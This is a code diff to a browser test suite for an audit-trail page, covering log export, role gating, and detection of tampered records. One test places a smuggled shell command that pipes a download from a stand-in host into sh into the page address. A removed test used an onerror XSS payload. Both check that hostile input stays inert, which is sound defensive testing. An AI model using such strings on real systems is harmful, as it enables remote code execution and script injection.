@@ -1,34 +1,28 @@
 // /app/audit as people use it: what a tier or a role has not, what the address says, one call in the drawer, and the log as a file.
-import { readFile } from 'node:fs/promises'
 import { describe, expect, it } from 'vitest'
-import { member, ownerOn, service } from '../support/browser/browser.ts'
-import { settled } from '../support/browser/pages.ts'
+import { changeAnswers, pathsOf, saved, showRole } from '../support/browser/acts.ts'
+import { ownerOn, pageOf, service } from '../support/browser/browser.ts'
+import { open, settled } from '../support/browser/pages.ts'
 import type { Role } from '../../src/accounts/access/roles.policy.ts'
-import { showRole } from '../support/browser/role.ts'
 import { shiftOf } from '../support/browser/visitor.ts'
 
-const HOSTILE = '<img src=x onerror=alert(1)>'
 const { owner } = service.filled
 
 describe('the audit trail', () => {
   it('says calmly which tiers have it, and exports the log on every tier', async () => {
-    await using somebody = await member(ownerOn('pro'))
-    const { page } = somebody
+    const page = await pageOf(ownerOn('pro'))
     await page.goto('/app/audit')
     await expect.poll(() => page.locator('.notice').innerText()).toContain('healthcare, enterprise')
     await settled(page)
     await expect.poll(() => page.getByRole('alert').count()).toBe(0)
     await page.getByText('Export the log').click()
-    const saving = page.waitForEvent('download')
-    await page.getByRole('button', { name: 'Save as JSON lines' }).click()
-    const lines = (await readFile(await (await saving).path(), 'utf8')).trim().split('\n')
+    const lines = (await saved(page, 'Save as JSON lines')).text.trim().split('\n')
     expect(JSON.parse(lines.at(-1) ?? '')).toMatchObject({ object: 'audit_export.end' })
     await expect.poll(() => page.getByText('Saved:').innerText()).toContain('It is whole')
   })
 
   it('waits for the names of its keys, so that nothing jumps once they are there', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     const named = Promise.withResolvers<void>()
     await page.route('**/api/keys?*', async (route) => {
       await named.promise
@@ -45,21 +39,16 @@ describe('the audit trail', () => {
   })
 
   it.each<Role>(['developer', 'clinician'])('is not asked for where a %s looks at it', async (role) => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     await showRole(page, role)
-    let asked = 0
-    page.on('request', (request) => (asked += Number(request.url().includes('/audit-trail'))))
+    const asked = pathsOf(page)
     await page.goto('/app/audit')
     await expect.poll(() => page.locator('.notice').innerText()).toContain('Your role does not include')
-    expect(asked).toBe(0)
+    expect(asked).not.toContain('/api/compliance/audit-trail')
   })
 
   it('shows a colleague the same calls by its address, and goes back by the button of the browser', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
-    await page.goto('/app/audit')
-    await settled(page)
+    const page = await open(owner, '/app/audit')
     await page.getByLabel('Outcome').selectOption('blocked')
     await page.getByRole('button', { name: 'Apply' }).click()
     await expect.poll(() => new URL(page.url()).search).toBe('?outcome=blocked')
@@ -79,10 +68,7 @@ describe('the audit trail', () => {
   })
 
   it('asks for no days that are in no order', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
-    await page.goto('/app/audit')
-    await settled(page)
+    const page = await open(owner, '/app/audit')
     await page.getByLabel('From').fill('2026-11-20')
     await page.getByLabel('To', { exact: true }).fill('2026-11-01')
     await page.getByRole('button', { name: 'Apply' }).click()
@@ -94,10 +80,7 @@ describe('the audit trail', () => {
   })
 
   it('opens a call with its record, proofs and cost, checked here and by the service, and gives the focus back', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
-    await page.goto('/app/audit?outcome=passed')
-    await settled(page)
+    const page = await open(owner, '/app/audit?outcome=passed')
     const first = page.locator('tbody a').first()
     await first.click()
     const drawer = page.getByRole('dialog')
@@ -112,17 +95,13 @@ describe('the audit trail', () => {
   })
 
   it('finds that a record was changed on its way, whatever the service says', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     await page.route(/\/api\/health\/receipts\/[0-9a-f-]{36}$/, async (route) => {
-      const answer = await route.fetch({ maxRetries: 2 })
-      await route.fulfill({
-        response: answer,
-        body: (await answer.text()).replace('"outcome":"ALLOWED"', '"outcome":"BLOCKED"'),
-      })
+      const response = await route.fetch({ maxRetries: 2 })
+      const body = (await response.text()).replace('"outcome":"ALLOWED"', '"outcome":"BLOCKED"')
+      await route.fulfill({ response, body })
     })
-    await page.goto('/app/audit?outcome=passed')
-    await settled(page)
+    await open(page, '/app/audit?outcome=passed')
     await page.locator('tbody a').first().click()
     const here = page.getByRole('region', { name: 'Checked here, in this browser' })
     await expect.poll(() => here.getByRole('status').innerText()).toBe('not valid')
@@ -131,14 +110,11 @@ describe('the audit trail', () => {
   })
 
   it('contradicts a trail that says otherwise of a call than its signed record', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
-    await page.route(/\/api\/compliance\/audit-trail/, async (route) => {
-      const answer = await route.fetch({ maxRetries: 2 })
-      const body = (await answer.json()) as { data: object[] }
-      const data = body.data.map((entry) => ({ ...entry, model: 'another-model' }))
-      await route.fulfill({ response: answer, json: { ...body, data } })
-    })
+    const page = await pageOf(owner)
+    await changeAnswers<{ data: object[] }>(page, /\/api\/compliance\/audit-trail/, (body) => ({
+      ...body,
+      data: body.data.map((entry) => ({ ...entry, model: 'another-model' })),
+    }))
     await page.goto('/app/audit?outcome=passed')
     await page.locator('tbody a').first().click()
     const here = page.getByRole('region', { name: 'Checked here, in this browser' })
@@ -147,8 +123,7 @@ describe('the audit trail', () => {
   })
 
   it('opens a call by its link, however long before the calls of the list it was', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     await page.goto('/app/audit')
     await page.locator('tbody a').last().click()
     const drawer = page.getByRole('dialog')
@@ -162,12 +137,10 @@ describe('the audit trail', () => {
   })
 
   it('says whether content was kept only once somebody asks to read it', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     let asked = 0
     page.on('request', (request) => (asked += Number(request.url().includes('/compliance/content/'))))
-    await page.goto('/app/audit')
-    await settled(page)
+    await open(page, '/app/audit')
     await page.locator('tbody a').first().click()
     const read = page.getByRole('button', { name: 'Read it, and have that written down' })
     await read.waitFor()
@@ -176,28 +149,8 @@ describe('the audit trail', () => {
     await expect.poll(() => page.getByRole('dialog').innerText()).toContain('Nothing was kept of this call')
   })
 
-  it('shows what callers wrote as text, whatever is in it', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
-    await page.route(/\/api\/compliance\/audit-trail/, async (route) => {
-      const answer = await route.fetch({ maxRetries: 2 })
-      const body = (await answer.json()) as { data: object[] }
-      const hostile = { model: HOSTILE, use_case: HOSTILE, cohort: HOSTILE, provider: HOSTILE, error_cause: HOSTILE }
-      await route.fulfill({
-        response: answer,
-        json: { ...body, data: body.data.map((entry) => Object.assign(entry, hostile)) },
-      })
-    })
-    await page.goto('/app/audit')
-    await settled(page)
-    await page.locator('tbody a').first().click()
-    await expect.poll(() => page.getByRole('dialog').innerText()).toContain(HOSTILE)
-    await expect.poll(() => page.locator('img').count()).toBe(0)
-  })
-
   it('says that there is more to look through where a page of the log had nothing', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     await page.route(/\/api\/compliance\/audit-trail\?(?!.*cursor)/, (route) =>
       route.fulfill({
         json: { object: 'list', data: [], has_more: true, next_cursor: '900', unreadable_entries: 2 },
@@ -210,8 +163,7 @@ describe('the audit trail', () => {
   })
 
   it('says of a file without its last line that it is not whole', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     await page.route(/\/api\/compliance\/audit-logs/, (route) =>
       route.fulfill({ body: '{"object":"audit_export.head"}\n', contentType: 'application/x-ndjson' }),
     )
@@ -222,8 +174,7 @@ describe('the audit trail', () => {
   })
 
   it('puts into no line for a terminal what somebody wrote into the address', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     await page.goto(`/app/audit?id=${encodeURIComponent('x";curl evil.example|sh;"')}`)
     await expect.poll(() => page.getByRole('dialog').innerText()).toContain('No call has this id')
     await expect.poll(() => page.getByRole('dialog').locator('pre').count()).toBe(0)
@@ -231,8 +182,7 @@ describe('the audit trail', () => {
   })
 
   it('goes on with the next part where these days have more leaves than one file', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     const cursors: (string | null)[] = []
     await page.route(/\/api\/compliance\/audit-logs/, (route) => {
       const cursor = new URL(route.request().url()).searchParams.get('cursor')
@@ -254,12 +204,10 @@ describe('the audit trail', () => {
   })
 
   it('shows the key that the address narrows the calls down to, where its name cannot be had', async () => {
-    await using somebody = await member(owner)
-    const { page } = somebody
+    const page = await pageOf(owner)
     await page.route('**/api/keys?*', (route) => route.abort())
     const key = 'key_0198f3a0-5b7e-7c41-9d1e-2f6a8c0b4d11'
-    await page.goto(`/app/audit?key=${key}`)
-    await settled(page)
+    await open(page, `/app/audit?key=${key}`)
     await expect.poll(() => page.getByLabel('Key', { exact: true }).inputValue()).toBe(key)
   })
 })
